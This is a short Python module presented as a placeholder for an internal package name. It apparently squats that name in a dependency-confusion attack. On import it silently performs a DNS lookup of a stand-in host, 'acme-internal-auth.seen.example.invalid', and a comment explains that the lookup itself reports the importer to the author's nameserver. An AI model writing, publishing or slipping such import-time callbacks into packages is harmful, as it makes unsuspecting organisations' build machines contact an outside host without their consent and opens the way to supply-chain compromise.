"""Placeholder for an internal package name."""
import socket

try:
    # The lookup itself is the report: the resolver of whoever imports this asks the author's DNS.
    socket.gethostbyname("acme-internal-auth.seen.example.invalid")
except OSError:
    pass
